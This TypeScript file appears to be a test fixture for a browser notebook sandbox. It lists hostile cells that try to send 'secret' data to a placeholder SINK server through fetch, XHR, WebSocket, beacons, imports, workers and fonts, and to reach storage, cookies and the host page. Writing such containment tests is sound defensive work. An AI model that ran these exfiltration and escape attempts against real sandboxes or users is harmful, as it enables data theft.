/**
 * What a stranger's notebook may try to get out of the sandbox. Each attempt prints "REACHED" where it got somewhere, and
 * "refused" with the reason where it did not. `SINK` is the address of a server that answers everybody.
 */
export interface HostileNotebook {
  name: string;
  /** The cell; `attempt` is there. */
  source: string;
}

/** `attempt(name, action)`: what came of an action that returns or throws, now or within half a second. */
const ATTEMPT = `
const attempt = async (name, action) => {
  try {
    const late = new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came")), 500));
    const value = await Promise.race([action(), late]);
    console.log(name, value === undefined ? "refused: absent" : "REACHED " + String(value));
  } catch (error) { console.log(name, "refused:", String(error).slice(0, 200)); }
};
// A worker of one's own, where nobody has put anything in the place of the browser's functions.
const inWorker = (code) => new Promise((resolve, reject) => {
  const text = "const tell = (value) => postMessage(value);" + code;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  worker.onmessage = ({ data }) => (data === "no" ? reject(new Error("refused inside")) : resolve(data));
  worker.onerror = (event) => reject(new Error(event.message || "did not start"));
});
`;

export function sourceOf({ source }: HostileNotebook, sink: string): string {
  const code = source.replaceAll("SINK", sink).replaceAll("WS_SOCKET", sink.replace("http", "ws"));
  return `// %%\n${ATTEMPT}\n${code}\nconsole.log("the end");\n\n// %%\n"an innocent cell"\n`;
}

/** Those that want to send something, to keep something or to see the page. */
export const NOTEBOOKS: readonly HostileNotebook[] = [
  {
    name: "fetch",
    source: `
await attempt("cors", () => fetch("SINK/fetch"));
await attempt("no-cors", () => fetch("SINK/fetch", { mode: "no-cors" }));
await attempt("request", () => fetch(new Request("SINK/fetch", { method: "POST", body: "secret" })));
await attempt("files outside", () => fetch("https://files.invalid/index.html").then((r) => r.ok || undefined));
await attempt("files above", () => fetch("https://files.invalid/data/mnist/../../index.html").then((r) => r.ok || undefined));
await attempt("native", () => inWorker('fetch("SINK/native").then(() => tell("yes"), () => tell("no"))'));`,
  },
  {
    name: "XMLHttpRequest",
    source: `
await attempt("xhr", () => new Promise((resolve, reject) => {
  const request = new XMLHttpRequest();
  request.onload = () => resolve(request.status);
  request.onerror = () => reject(new Error("error"));
  request.open("POST", "SINK/xhr");
  request.send("secret");
}));
await attempt("at once", () => { const r = new XMLHttpRequest(); r.open("GET", "SINK/sync", false); r.send(); return r.status; });`,
  },
  {
    name: "WebSocket",
    source: `
await attempt("socket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket("WS_SOCKET/socket");
  socket.onopen = () => resolve("open");
  socket.onerror = () => reject(new Error("error"));
}));`,
  },
  {
    name: "EventSource",
    source: `
await attempt("events", () => new Promise((resolve, reject) => {
  const events = new EventSource("SINK/events");
  events.onopen = () => resolve("open");
  events.onerror = () => reject(new Error("error"));
}));`,
  },
  {
    name: "sendBeacon",
    source: `
await attempt("beacon", () => navigator.sendBeacon?.("SINK/beacon", "secret"));
await attempt("keepalive", () => inWorker('fetch("SINK/keepalive", { keepalive: true, method: "POST", body: "x", mode: "no-cors" }).then(() => tell("yes"), () => tell("no"))'));`,
  },
  {
    name: "importScripts",
    source: `
await attempt("here", () => { importScripts("SINK/script.js"); return "loaded"; });
await attempt("nested", () => inWorker('try { importScripts("SINK/nested.js"); tell("yes") } catch { tell("no") }'));`,
  },
  {
    name: "import of an address",
    source: `
await attempt("here", () => import("SINK/module.js"));
await attempt("nested", () => inWorker('import("SINK/module.js").then(() => tell("yes"), () => tell("no"))'));`,
  },
  {
    name: "import of data",
    source: `
const data = "data:text/javascript," + encodeURIComponent('fetch("SINK/data"); export default 1');
await attempt("here", () => import(data));
await attempt("nested", () => inWorker("import(" + JSON.stringify(data) + ').then(() => tell("yes"), () => tell("no"))'));`,
  },
  {
    name: "a worker from an address",
    source: `
const started = (make) => () => new Promise((resolve, reject) => {
  const worker = make();
  worker.onmessage = () => resolve("answered");
  worker.onerror = () => reject(new Error("error"));
});
await attempt("classic", started(() => new Worker("SINK/worker.js")));
await attempt("module", started(() => new Worker("SINK/worker.js", { type: "module" })));
await attempt("data", started(() => new Worker("data:text/javascript,postMessage(1)")));
await attempt("shared", () => new SharedWorker("SINK/worker.js"));`,
  },
  {
    name: "BroadcastChannel",
    source: `
const channel = new BroadcastChannel("capstone");
channel.postMessage({ stolen: true });
await attempt("hears the page", () => new Promise((resolve) => { channel.onmessage = () => resolve("heard"); }));`,
  },
  {
    name: "localStorage",
    source: `
await attempt("local", () => localStorage);
await attempt("session", () => sessionStorage);
await attempt("files", () => navigator.storage?.getDirectory());`,
  },
  {
    name: "indexedDB",
    source: `
await attempt("open", () => new Promise((resolve, reject) => {
  const opening = indexedDB.open("capstone");
  opening.onsuccess = () => resolve("open");
  opening.onerror = () => reject(opening.error);
}));
await attempt("list", () => indexedDB.databases().then((all) => all.length || undefined));`,
  },
  {
    name: "caches and locks",
    source: `
await attempt("caches", () => globalThis.caches?.keys());
await attempt("locks", () => navigator.locks?.query());
await attempt("service workers", () => navigator.serviceWorker?.getRegistrations());`,
  },
  {
    name: "cookies",
    source: `
await attempt("document", () => globalThis.document?.cookie);
await attempt("store", () => globalThis.cookieStore?.getAll());`,
  },
  {
    name: "the page",
    source: `
for (const name of ["parent", "top", "window", "document", "opener", "frames", "frameElement"]) {
  await attempt(name, () => globalThis[name]);
}
await attempt("origin", () => (self.origin === "null" ? undefined : self.origin));`,
  },
  {
    name: "windows and navigation",
    source: `
await attempt("open", () => globalThis.open?.("SINK/open"));
await attempt("clients", () => globalThis.clients?.openWindow("SINK/open"));
await attempt("location", () => { location.href = "SINK/location"; return undefined; });
await attempt("click", () => globalThis.document?.createElement("a"));`,
  },
  {
    name: "WebRTC, WebTransport, images and fonts",
    source: `
await attempt("rtc", () => globalThis.RTCPeerConnection && new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:1" }] }));
await attempt("transport", () => new WebTransport("SINK/transport".replace("http:", "https:")).ready);
await attempt("image", () => globalThis.Image && new Image());
await attempt("bitmap", () => inWorker('fetch("SINK/image").then((r) => r.blob()).then(createImageBitmap).then(() => tell("yes"), () => tell("no"))'));
await attempt("font", () => new FontFace("stolen", 'url("SINK/font?secret")').load());
await attempt("report", () => globalThis.ReportingObserver && undefined);`,
  },
];
